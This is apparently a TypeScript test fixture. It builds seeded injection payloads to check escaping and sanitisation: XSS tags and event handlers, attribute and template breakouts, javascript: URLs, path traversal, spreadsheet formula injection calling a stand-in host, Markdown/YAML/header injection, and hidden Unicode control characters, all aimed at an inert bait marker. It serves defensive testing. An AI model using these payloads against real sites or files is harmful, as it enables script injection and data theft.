// Texts that would become something else where they are not taken as text: markup, handlers, addresses, formulas, Markdown, YAML,
// Python, signs that turn or hide. Put together from parts by a seed.
import { RandomStream } from "../../src/core/rng.ts";

/** What a payload asks for or sets when it works; on no page and in no file otherwise. */
export const BAIT = "payload-bait";
const URL = `https://${BAIT}.invalid/x`;
const RUN = `window['${BAIT}']=1`;

/** Parts by the language that they speak. */
const PARTS: Readonly<Record<string, readonly string[]>> = {
  markup: [
    `<script>${RUN}</script>`,
    `<script src=${URL}></script>`,
    `<img src=${URL} onerror=${RUN}>`,
    `<svg onload=${RUN}>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<details open ontoggle=${RUN}>x</details>`,
    `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
    `<link rel=stylesheet href=${URL}>`,
    `<style>@import '${URL}';</style>`,
    `<base href=${URL}>`,
    `<meta http-equiv=refresh content="0;url=${URL}">`,
    `<form action=${URL}><button>go</button></form>`,
    `<a href="javascript:${RUN}">x</a>`,
    `<template><img src=${URL}></template>`,
    `<dialog open>x</dialog>`,
    `<input autofocus onfocus=${RUN}>`,
    `<object data=${URL}></object>`,
    `<!-- ${BAIT} --><plaintext>`,
    `<![CDATA[<img src=${URL}>]]>`,
  ],
  breakOut: [
    `" onmouseover="${RUN}`,
    `' autofocus onfocus='${RUN}`,
    `"><img src=${URL}>`,
    `</title><script>${RUN}</script>`,
    `</style><img src=${URL}>`,
    `</textarea><script>${RUN}</script>`,
    `--><img src=${URL}>`,
    `\${${RUN}}`,
    `{{constructor.constructor("${RUN}")()}}`,
    `&lt;img src=${URL}&gt;`,
    `&#60;img src=${URL}&#62;`,
  ],
  address: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `vbscript:${BAIT}`,
    `//${BAIT}.invalid/x`,
    URL,
    `www.${BAIT}.invalid`,
    `blob:${URL}`,
    `../../../${BAIT}`,
    String.raw`..\..\${BAIT}`,
    `C:\\${BAIT}`,
  ],
  formula: [
    `=HYPERLINK("${URL}")`,
    `+cmd|' /C ${BAIT}'!A0`,
    `-2+3+cmd|' /C ${BAIT}'!A0`,
    `@SUM(1+1)*cmd|'${BAIT}'!A0`,
    `\t=WEBSERVICE("${URL}")`,
    `\r=IMPORTXML("${URL}","//a")`,
    `\n=1+1`,
    `\uFF1D1+1`,
  ],
  markdown: [
    `![x](${URL})`,
    `[x](javascript:${RUN})`,
    `[x]: ${URL}`,
    `<${URL}>`,
    `\`\`\`\n${BAIT}`,
    `\`${BAIT}\``,
    `\n# ${BAIT}`,
    `1. ${BAIT}`,
    `${BAIT}@${BAIT}.invalid`,
    `\n---\n${BAIT}: yes\n---`,
    `| a | b |\n|---|---|`,
    `**${BAIT}** __${BAIT}__ ~~x~~`,
    `$${BAIT}$`,
    `\n- [x] ${BAIT}`,
    `\\[x](${URL})`,
  ],
  files: [
    `\nbase_model: ${BAIT}`,
    `": "${BAIT}`,
    `\nFROM ${URL}\nADAPTER ${BAIT}`,
    `"; import ${BAIT.replace("-", "_")} #`,
    `""" + open("${BAIT}") + """`,
    `\\"; ${BAIT}`,
    `\r\nX-Header: ${BAIT}`,
    `CON`,
    `a/b\u0000.${BAIT}`,
  ],
  signs: [
    `\u202E${BAIT}\u202C`,
    `\u2066${BAIT}\u2069`,
    `\u200B${BAIT}`,
    `\uFEFF${BAIT}`,
    `\u0007\u001B[31m${BAIT}`,
    `\u{E0041}\u{E0042}`,
    `\uD800${BAIT}`,
    `\u2028${RUN}`,
    `a\u00AD${BAIT}`,
    `\u0000${BAIT}`,
  ],
};

const BETWEEN = ["", " ", "\n", '"', "'", ">", "x", "\t", "/", "`", "|", "\u200B"] as const;

/** So many payloads are one part each. */
export const PARTS_ALONE = Object.values(PARTS).flat().length;

/** `count` payloads: each part alone first, then two or three put together, some in other case. */
export function payloads(count: number, seed: number): readonly string[] {
  const random = new RandomStream(seed);
  const all = Object.values(PARTS).flat();
  const joined = (): string => {
    const parts = Array.from({ length: random.integer(2, 3) }, () => random.pick(all) + random.pick(BETWEEN));
    const text = random.pick(BETWEEN) + parts.join("");
    return random.next() < 0.2 ? text.replaceAll(/<[a-z]+/g, (tag) => tag.toUpperCase()) : text;
  };
  return Array.from({ length: count }, (_, i) => all[i] ?? joined());
}
